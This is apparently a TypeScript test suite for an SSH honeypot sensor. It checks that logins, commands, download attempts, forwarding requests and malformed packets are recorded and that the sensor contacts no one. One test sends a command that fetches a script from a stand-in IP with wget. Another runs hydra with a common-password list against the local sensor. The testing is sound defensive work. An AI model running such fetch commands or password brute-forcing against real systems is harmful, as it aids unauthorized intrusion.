import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import ssh2 from 'ssh2';
import type { Interaction } from '../core/listeners.ts';
import { type RunningPersona, startPersona } from '../core/test-helpers.ts';
import { sshPersona } from './ssh.ts';

const run = promisify(execFile);

// These tests drive the real tools attackers use; they must exist (CI installs them).
const SSH = '/usr/bin/ssh';
const HYDRA = '/usr/bin/hydra';
const KEYSCAN = '/usr/bin/ssh-keyscan';
const KEYGEN = '/usr/bin/ssh-keygen';

// Seeds with different distributions, so their version strings differ too.
const SEED_UBUNTU = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa14';
const SEED_CENTOS = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa11';

const tmp = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'mamori-ssh-test-')));
after(() => rmSync(tmp, { recursive: true, force: true }));

type Result = { code: number | null; stdout: string; stderr: string };

/**
 * Runs OpenSSH against the persona with a password given through SSH_ASKPASS (no terminal needed):
 * `ssh [options] user@127.0.0.1 [command]`, with `input` on stdin if given.
 */
function ssh(
  port: number,
  user: string,
  password: string,
  options: string[],
  command?: string,
  input?: string,
): Promise<Result> {
  const askpass = path.join(tmp, `askpass-${randomBytes(4).toString('hex')}.sh`);
  writeFileSync(askpass, `#!/bin/sh\nprintf '%s\\n' '${password}'\n`);
  chmodSync(askpass, 0o700);
  const base = [
    '-F',
    '/dev/null',
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'PreferredAuthentications=password,keyboard-interactive',
    '-o',
    'NumberOfPasswordPrompts=1',
    '-o',
    'ConnectTimeout=10',
    '-o',
    'LogLevel=ERROR',
    '-p',
    String(port),
  ];
  return new Promise((resolve, reject) => {
    // OpenSSH keeps the first value it is given for an option, so the test's own options go first.
    const child = spawn(SSH, [...options, ...base, `${user}@127.0.0.1`, ...(command === undefined ? [] : [command])], {
      env: { ...process.env, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' },
      stdio: [input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout?.on('data', (d) => (stdout += d));
    child.stderr?.on('data', (d) => (stderr += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
    if (input !== undefined) child.stdin?.end(input);
  });
}

const logins = (p: RunningPersona) => p.interactions.filter((i) => i.kind === 'login');
const ofKind = (p: RunningPersona, kind: Interaction['kind']) => p.interactions.filter((i) => i.kind === kind);

/** The first line a server sends (its identification string). */
function readBanner(port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = net.connect(port, '127.0.0.1');
    let buf = '';
    s.on('data', (d) => {
      buf += d.toString('latin1');
      const nl = buf.indexOf('\n');
      if (nl !== -1) {
        s.destroy();
        resolve(buf.slice(0, nl).replace(/\r$/, ''));
      }
    });
    s.on('error', reject);
  });
}

/** Host keys as `type blob` lines, from ssh-keyscan. */
async function hostKeys(port: number): Promise<string[]> {
  const { stdout } = await run(KEYSCAN, ['-T', '5', '-p', String(port), '-t', 'ed25519,ecdsa,rsa', '127.0.0.1'], {
    timeout: 15_000,
  });
  return stdout
    .split('\n')
    .filter((l) => l && !l.startsWith('#'))
    .map((l) => l.split(' ').slice(1).join(' '))
    .sort();
}

/** Sends bytes and resolves once the server closes the connection. */
function sendAndWaitClose(port: number, data: Buffer): Promise<void> {
  return new Promise((resolve, reject) => {
    const s = net.connect(port, '127.0.0.1', () => s.write(data));
    s.on('data', () => {});
    s.on('error', () => {});
    s.on('close', () => resolve());
    setTimeout(() => {
      s.destroy();
      reject(new Error('server did not close the connection'));
    }, 10_000).unref();
  });
}

describe('ssh persona with OpenSSH', () => {
  let p: RunningPersona;
  before(async () => {
    p = await startPersona('ssh', sshPersona, { seed: SEED_UBUNTU });
  });
  after(() => p.close());

  test('password login runs an exec command line; login, command and download are recorded, nothing fetched', async () => {
    const r = await ssh(p.port, 'admin', 'admin', [], 'uname -a; wget http://198.51.100.7/x.sh');
    assert.ok(r.stdout.includes(`Linux ${p.identity.hostname} ${p.identity.linux.kernel} #`), r.stdout + r.stderr);
    assert.match(r.stderr, /Connecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused/);
    assert.equal(r.code, 4, 'the exit status of the last command (wget) comes back');
    const login = await p.waitFor((i) => i.kind === 'login' && i.success === true);
    assert.equal(login.username, 'admin');
    assert.equal(login.password, 'admin');
    const command = await p.waitFor((i) => i.kind === 'command');
    assert.equal(command.command, 'uname -a; wget http://198.51.100.7/x.sh');
    assert.deepEqual(command.info?.parts, ['uname -a', 'wget http://198.51.100.7/x.sh']);
    assert.equal(command.info?.via, 'exec');
    const download = await p.waitFor((i) => i.kind === 'download');
    assert.equal(download.url, 'http://198.51.100.7/x.sh');
    const hello = await p.waitFor((i) => i.kind === 'request' && /^SSH SSH-2\.0-OpenSSH_/.test(i.summary ?? ''));
    assert.equal(hello.sessionId, login.sessionId);
    await p.waitFor((i) => i.kind === 'disconnect' && i.sessionId === login.sessionId);
  });

  test('a wrong password is recorded as a failed login and refused', async () => {
    const before = logins(p).length;
    const r = await ssh(p.port, 'root', 'nope', [], 'id');
    assert.equal(r.code, 255);
    assert.match(r.stderr, /Permission denied/);
    const tried = logins(p).slice(before);
    assert.ok(tried.length >= 1);
    for (const l of tried) {
      assert.equal(l.username, 'root');
      assert.equal(l.password, 'nope');
      assert.equal(l.success, false);
    }
    assert.deepEqual(tried.map((l) => l.info?.method).sort(), ['keyboard-interactive', 'password']);
  });

  test('an interactive pty shell: banner, prompt, echo, commands recorded one per line', async () => {
    const before = ofKind(p, 'command').length;
    const r = await ssh(p.port, 'admin', 'admin', ['-tt'], undefined, 'id\ncat /etc/hostname\nexit\n');
    const out = r.stdout.replace(/\r/g, '');
    assert.ok(out.includes(`Welcome to ${p.identity.linux.distro}`), out);
    assert.ok(out.includes(`admin@${p.identity.hostname}:~$ id\nuid=1002(admin)`), out);
    assert.ok(out.includes(`\n${p.identity.hostname}\n`), out);
    assert.ok(out.includes('logout'), out);
    const commands = ofKind(p, 'command')
      .slice(before)
      .map((c) => [c.command, c.info?.via]);
    assert.deepEqual(commands, [
      ['id', 'shell'],
      ['cat /etc/hostname', 'shell'],
      ['exit', 'shell'],
    ]);
  });

  test('a public key is recorded with its type and SHA256 fingerprint, never accepted', async () => {
    const key = path.join(tmp, 'id_ed25519');
    await run(KEYGEN, ['-q', '-t', 'ed25519', '-N', '', '-C', 'bot@example', '-f', key]);
    const fingerprint = (await run(KEYGEN, ['-l', '-f', `${key}.pub`])).stdout.split(' ')[1];
    const r = await ssh(
      p.port,
      'root',
      'unused',
      ['-i', key, '-o', 'IdentitiesOnly=yes', '-o', 'PreferredAuthentications=publickey'],
      'id',
    );
    assert.equal(r.code, 255);
    const rec = await p.waitFor((i) => i.kind === 'login' && i.info?.method === 'publickey');
    assert.equal(rec.success, false);
    assert.equal(rec.username, 'root');
    assert.equal(rec.info?.keyType, 'ssh-ed25519');
    assert.equal(rec.info?.fingerprint, fingerprint);
    assert.equal(readFileSync(`${key}.pub`, 'utf8').split(' ')[0], 'ssh-ed25519');
  });

  test('port forwarding and sftp are refused and recorded; the sensor connects nowhere', async () => {
    let reached = 0;
    const target = net.createServer((s) => {
      reached++;
      s.destroy();
    });
    await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
    const targetPort = (target.address() as net.AddressInfo).port;
    try {
      const w = await ssh(p.port, 'admin', 'admin', ['-W', `127.0.0.1:${targetPort}`], undefined, '');
      assert.notEqual(w.code, 0);
      const sftp = await ssh(p.port, 'admin', 'admin', ['-s'], 'sftp');
      assert.notEqual(sftp.code, 0);
      const remote = await ssh(p.port, 'admin', 'admin', [
        '-N',
        '-o',
        'ExitOnForwardFailure=yes',
        '-R',
        '0:127.0.0.1:9',
      ]);
      assert.notEqual(remote.code, 0);
      assert.match(remote.stderr, /remote port forwarding failed/);
      const summaries = ofKind(p, 'request').map((i) => i.summary);
      assert.ok(summaries.includes(`direct-tcpip to 127.0.0.1:${targetPort} refused`), JSON.stringify(summaries));
      assert.ok(summaries.includes('subsystem sftp refused'), JSON.stringify(summaries));
      assert.ok(
        summaries.some((s) => s?.startsWith('tcpip-forward ') && s.endsWith(' refused')),
        JSON.stringify(summaries),
      );
      assert.equal(reached, 0);
    } finally {
      target.close();
    }
  });

  test('garbage, HTTP and broken packets close the connection as malformed; the next client is served', async () => {
    const before = ofKind(p, 'malformed').length;
    await sendAndWaitClose(p.port, randomBytes(4096));
    await sendAndWaitClose(p.port, Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'));
    await sendAndWaitClose(p.port, Buffer.concat([Buffer.from('SSH-2.0-Go\r\n'), randomBytes(2000)]));
    await sendAndWaitClose(p.port, Buffer.from(`SSH-2.0-${'A'.repeat(400)}`));
    const deadline = Date.now() + 5000;
    while (ofKind(p, 'malformed').length < before + 4 && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 50));
    const reasons = ofKind(p, 'malformed')
      .slice(before)
      .map((i) => i.summary);
    assert.equal(reasons.length, 4, JSON.stringify(reasons));
    assert.equal(reasons.filter((r) => r === 'not an SSH client identification').length, 2, JSON.stringify(reasons));
    assert.ok(
      reasons.some((r) => r?.startsWith('SSH protocol error')),
      JSON.stringify(reasons),
    );
    assert.ok(reasons.includes('SSH identification line too long'), JSON.stringify(reasons));
    const r = await ssh(p.port, 'admin', 'admin', [], 'echo still here');
    assert.equal(r.stdout, 'still here\n');
  });
});

describe('ssh persona limits', () => {
  test('a connection that keeps guessing is answered every time and closed after 100 failures', async () => {
    const p = await startPersona('ssh', sshPersona, { seed: SEED_UBUNTU });
    try {
      let offered = 0;
      const outcome = await new Promise<string>((resolve) => {
        const c = new ssh2.Client();
        c.on('error', (err) => resolve(`error: ${err.message}`));
        c.on('close', () => resolve('closed'));
        c.on('ready', () => resolve('logged in'));
        c.connect({
          host: '127.0.0.1',
          port: p.port,
          username: 'root',
          readyTimeout: 15_000,
          // One connection, one password after another (ssh2 stops when the server goes away).
          authHandler: (_methods, _partial, next) => {
            offered++;
            if (offered > 150) return next(false as never);
            next({ type: 'password', username: 'root', password: `guess${offered}` });
          },
        });
      });
      assert.equal(outcome, 'closed');
      await p.waitFor((i) => i.kind === 'disconnect');
      const tried = logins(p);
      assert.equal(tried.length, 100);
      assert.deepEqual(
        tried.map((l) => l.password),
        Array.from({ length: 100 }, (_, i) => `guess${i + 1}`),
      );
      assert.equal(new Set(tried.map((l) => l.sessionId)).size, 1);
    } finally {
      await p.close();
    }
  });
});

describe('ssh persona under hydra', () => {
  test('every credential hydra tries is recorded, and hydra finds the accepted pair', async (t) => {
    const users = ['root', 'admin', 'oracle'];
    const passwords = [
      '123456',
      'password',
      '12345678',
      'qwerty',
      '123456789',
      '12345',
      '1234',
      '111111',
      '1234567',
      'dragon',
      '123123',
      'baseball',
      'abc123',
      'football',
      'monkey',
      'hospital123',
      'letmein',
      'shadow',
      'master',
      '666666',
    ];
    const p = await startPersona('ssh', sshPersona, {
      seed: SEED_UBUNTU,
      accepts: (u, pw) => u === 'oracle' && pw === 'hospital123',
    });
    try {
      const dir = mkdtempSync(path.join(tmp, 'hydra-'));
      writeFileSync(path.join(dir, 'users.txt'), `${users.join('\n')}\n`);
      writeFileSync(path.join(dir, 'pass.txt'), `${passwords.join('\n')}\n`);
      const started = Date.now();
      const { stdout } = await run(
        HYDRA,
        ['-L', 'users.txt', '-P', 'pass.txt', '-t', '4', '-I', '-V', '-s', String(p.port), 'ssh://127.0.0.1'],
        { cwd: dir, timeout: 25_000 },
      );
      const seconds = (Date.now() - started) / 1000;
      assert.match(stdout, /login: oracle\s+password: hospital123/);
      const attempts = [
        ...stdout.matchAll(/\[(?:RE-)?ATTEMPT\] target 127\.0\.0\.1 - login "([^"]*)" - pass "([^"]*)"/g),
      ].map((m) => `${m[1]}:${m[2]}`);
      // hydra has closed its connections when it exits; give the last disconnects a moment to land.
      await new Promise((r) => setTimeout(r, 300));
      const recorded = logins(p).map((l) => `${l.username}:${l.password}`);
      assert.ok(attempts.length >= 41, `hydra made ${attempts.length} attempts`);
      assert.equal(recorded.length, attempts.length, 'one login record per hydra attempt');
      assert.deepEqual([...recorded].sort(), [...attempts].sort());
      assert.deepEqual(
        logins(p)
          .filter((l) => l.success)
          .map((l) => `${l.username}:${l.password}`),
        ['oracle:hospital123'],
      );
      t.diagnostic(
        `hydra: ${attempts.length} attempts in ${seconds.toFixed(2)} s = ${(attempts.length / seconds).toFixed(0)} attempts/s`,
      );
    } finally {
      await p.close();
    }
  });
});

describe('ssh identity', () => {
  test('two seeds give two version strings and two sets of host keys; a restart keeps its keys', async () => {
    const stateDir = mkdtempSync(path.join(tmp, 'state-'));
    const a = await startPersona('ssh', sshPersona, { seed: SEED_UBUNTU, stateDir });
    const b = await startPersona('ssh', sshPersona, { seed: SEED_CENTOS, stateDir });
    let keysA: string[];
    try {
      assert.equal(await readBanner(a.port), a.identity.linux.sshBanner);
      assert.equal(await readBanner(b.port), b.identity.linux.sshBanner);
      assert.notEqual(a.identity.linux.sshBanner, b.identity.linux.sshBanner);
      assert.ok(!a.identity.linux.sshBanner.includes('ssh2js'));
      keysA = await hostKeys(a.port);
      const keysB = await hostKeys(b.port);
      assert.deepEqual(
        keysA.map((k) => k.split(' ')[0]),
        ['ecdsa-sha2-nistp256', 'ssh-ed25519', 'ssh-rsa'],
      );
      for (const k of keysA) assert.ok(!keysB.includes(k), 'no host key is shared between sensors');
    } finally {
      await a.close();
      await b.close();
    }
    const again = await startPersona('ssh', sshPersona, { seed: SEED_UBUNTU, stateDir });
    try {
      assert.deepEqual(await hostKeys(again.port), keysA, 'host keys persist in the state directory');
    } finally {
      await again.close();
    }
  });
});
